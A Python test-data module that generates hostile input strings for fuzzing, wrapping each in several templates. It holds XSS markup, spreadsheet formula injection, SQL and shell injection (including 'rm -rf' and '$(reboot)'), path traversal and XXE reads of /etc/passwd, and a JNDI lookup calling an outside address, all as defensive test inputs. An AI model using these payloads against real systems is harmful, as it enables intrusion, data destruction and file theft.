"""Text meant to break programs, written here: what it may be, said in several ways."""

# Each would be seen: a dialog, another title, a mark on the window, a request elsewhere.
MARKUP = (
    "<script>window.top.hacked = 1; alert(1)</script>",
    "</script><script>window.top.hacked = 1; alert(1)</script>",
    "<img src=x onerror='window.top.hacked = 1; alert(1)'>",
    "<svg onload=\"document.title = 'hacked'\">",
    "${alert(1)}",
    "`);window.top.hacked = 1;alert(1);(`",
    "</div></template><iframe src=http://198.51.100.1/x></iframe>",
    "![x](http://198.51.100.1/x.png)",
    "<style>@import 'http://198.51.100.1/x.css';</style>",
    "<a href='javascript:alert(1)'>The park</a> [The park](javascript:alert(1))",
    "<b>bold</b> **bold** :red[red] $x^2$ &lt;b&gt; &amp;amp; \\n",
    "{{ 7 * 7 }} {% raw %} %(name)s {0}",
)
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://198.51.100.1/x","The park")',
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://198.51.100.1/",A1),"//a")',
    "\t=1+1",
    "%0A=1+1",
    "＝1＋1",  # wide signs, which some programs take for their own
)
COMMANDS = (
    "'; drop table context; --",
    '" or ""="',
    "1; select * from referral",
    "$(reboot)",
    "`reboot`",
    "; rm -rf . #",
    "../../../etc/passwd%00",
    "C:\\con\\aux",
    "file:///etc/passwd",
    "${jndi:ldap://198.51.100.1/a}",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "%s%n%d%x",
    "{0.__class__}",
    "__proto__",
)
# Words and numbers that a program may take for its own, or for nothing.
MISTAKEN = (
    *("null", "NULL", "None", "nil", "undefined", "NaN", "Infinity", "-0", "true", "FALSE", "N/A"),
    *("1e308", "1E-400", "0x10", "007", "1_000", "1,000.00", "1.000,00", "½", "٣", "²"),
    *("2022-02-30", "31/02/2022", "24:60", "#N/A", "#REF!", "row_no", "select", "-", "--", "…"),
)
SCRIPTS = (
    "Ÿþĸ ẞ ŉ",
    "Ω≈ç√∫˜µ≤≥÷",
    "田中さんの公園",
    "사회과학원 어학연구소",
    "ثم نفس سقطت وبالتحديد",
    "\u202eThe park\u202c",
    "\u2066The park\u2069 \u05d4\u05e4\u05d0\u05e8\u05e7",
    "👩\u200d👩\u200d👧 🏳\ufe0f\u200d🌈 👍🏽 🇬🇧",
    "e\u0301 \u00e9 a" + "\u0300\u0316\u0334" * 8,
    "ﬁ ﬀ ﷽ ㎏",
    "\U0001d413\U0001d421\U0001d41e park",
    "ประเทศไทย हिन्दी",
    "“quoted” ‘quoted’ „quoted“ «quoted»",
)
SHAPES = (
    'a "quoted" word',
    'half a " quote',
    "a, b; c | d",
    "two\nlines",
    "a tab\there",
    "a back\\slash\\",
    "x" * 1_500,
)
# Characters that are seen as nothing, or move what follows.
UNSEEN = (
    *map(chr, (*range(0x01, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F, *range(0x80, 0xA1))),
    *map(chr, (0xAD, 0x034F, 0x061C, 0x1680, 0x180E, *range(0x2000, 0x2010))),
    *map(chr, (*range(0x2028, 0x2030), *range(0x205F, 0x2065), 0x3000, 0xFEFF, 0xFFFD, 0xE0001)),
)
WAYS = ("{}", "The park {}", "{} at the park", "({})", "{0} {0}", " {} ")


def hostile_strings() -> list[str]:
    """Return every string once, each in several ways, and each unseen character between letters."""
    said = (*MARKUP, *FORMULAS, *COMMANDS, *MISTAKEN, *SCRIPTS, *SHAPES)
    whole = [way.replace("{0}", text).replace("{}", text) for text in said for way in WAYS]
    return list(dict.fromkeys([*whole, *(f"a{character}b" for character in UNSEEN)]))
